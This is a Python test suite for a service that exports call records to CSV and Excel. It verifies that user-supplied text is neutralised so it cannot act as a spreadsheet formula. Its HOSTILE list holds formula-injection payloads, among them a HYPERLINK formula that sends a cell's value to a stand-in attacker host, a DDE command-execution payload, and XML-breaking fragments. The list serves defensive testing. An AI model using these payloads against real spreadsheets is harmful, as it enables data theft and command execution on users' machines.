"""Files of exports: whatever strangers said or typed, a cell is text, a number or a time, and nothing else."""

import io
import zipfile
from datetime import date, datetime

import pytest

from calls.services import export_files
from calls.services.export_files import csv_pieces, neutral, write_xlsx
from tests.support.spreadsheets import as_moment, read_csv, read_xlsx, sheet_names

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "hello;=1+1",
    "hello\n=1+1",
    "hello\r\n @SUM(1)",
    "hello\t+1",
    "+91 98765 43210",
    "{=1+1}",
    "https://evil.example/",
    "mailto:evil@evil.example",
    "internal:Sheet2!A1",
    "<r><t>x</t></r>",
    "<r></r></is></c><c r='Z9'><f>1+1</f></c><c r='Y9'><is><r></r>",
    "</t></is></c><c><f>1+1</f></c>",
    "1234567890123456789",
    "TRUE",
]
STARTERS = "=+-@＝＋－＠﹦﹢﹣﹫"


def as_csv(*rows: list) -> bytes:
    return b"".join(csv_pieces(["=heading", "other"], [list(rows)]))


def as_xlsx(tmp_path, *rows: list, headings: list[str] | None = None) -> bytes:
    file = io.BytesIO()
    write_xlsx(file, headings or ["=heading", "other"], [list(rows)], str(tmp_path))
    return file.getvalue()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_harmless_in_csv(text: str) -> None:
    row = next(iter(read_csv(as_csv([text, "x"]))))

    cell = row["'=heading"]
    # Also where a spreadsheet takes a semicolon, a tab or a line end for the end of a cell.
    for piece in cell.replace(";", "\n").replace("\t", "\n").splitlines():
        assert not piece.strip("\u200b\ufeff \u00a0\u3000").startswith(tuple(STARTERS)), piece
    assert not cell.startswith(("\t", "\r", "\n"))
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["Asha Rao", "yes - no", "a=b", "me@home.example", "3 + 4", "", "'quoted'", "a; b"]
)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_many_blanks_take_no_long_time() -> None:
    assert neutral(" \n" * 50_000)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_a_text_in_excel(tmp_path, text: str) -> None:
    row = read_xlsx(as_xlsx(tmp_path, [text, "x"]))[0]

    found = row["=heading"]
    assert isinstance(found, str)
    # XML makes one line end of any.
    assert found.strip() == text.replace("\r\n", "\n").replace("\r", "\n").strip()
    assert row["other"] == "x"


def test_values_keep_their_kind(tmp_path) -> None:
    moment, day = datetime(2026, 11, 24, 9, 5, 7), date(2026, 12, 1)  # noqa: DTZ001

    csv_rows = read_csv(as_csv([moment, day], [72, None]))
    xlsx_rows = read_xlsx(as_xlsx(tmp_path, [moment, day], [72, None]))

    assert list(csv_rows[0].values()) == ["2026-11-24 09:05:07", "2026-12-01"]
    assert list(csv_rows[1].values()) == ["72", ""]
    assert as_moment(xlsx_rows[0]["=heading"]) == moment
    assert as_moment(xlsx_rows[0]["other"]).date() == day
    assert xlsx_rows[1] == {"=heading": 72.0}


def test_what_no_spreadsheet_can_hold_is_dropped(tmp_path) -> None:
    text = "a\x00b\x08c\x0bd\x1fe\ud800f\uffffg"

    assert next(iter(read_csv(as_csv([text, ""]))))["'=heading"] == "abcdefg"
    assert read_xlsx(as_xlsx(tmp_path, [text, ""]))[0]["=heading"] == "abcdefg"


def test_a_text_longer_than_a_cell_of_excel_is_cut(tmp_path) -> None:
    rows = read_xlsx(as_xlsx(tmp_path, ["ä" * 40_000, "x"], ["😀" * 20_000, "y"]))

    assert len(str(rows[0]["=heading"])) == export_files.LETTERS_A_CELL
    assert rows[1]["other"] == "y"


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(export_files, "ROWS_A_SHEET", 3)

    content = as_xlsx(tmp_path, *([number, "x"] for number in range(5)))

    assert len(sheet_names(content)) == 3
    found = [row["=heading"] for sheet in (1, 2, 3) for row in read_xlsx(content, sheet)]
    assert found == [0.0, 1.0, 2.0, 3.0, 4.0]


def test_an_excel_file_is_whole_and_leaves_nothing_behind(tmp_path) -> None:
    content = as_xlsx(tmp_path, ["a", "b"])

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert book.testzip() is None
    assert list(tmp_path.iterdir()) == []


def test_letters_of_all_scripts_survive(tmp_path) -> None:
    text = "आशा राव, Zoë, 😀, مرحبا"

    assert read_csv(as_csv([text, ""]))[0]["'=heading"] == text
    assert read_xlsx(as_xlsx(tmp_path, [text, ""]))[0]["=heading"] == text
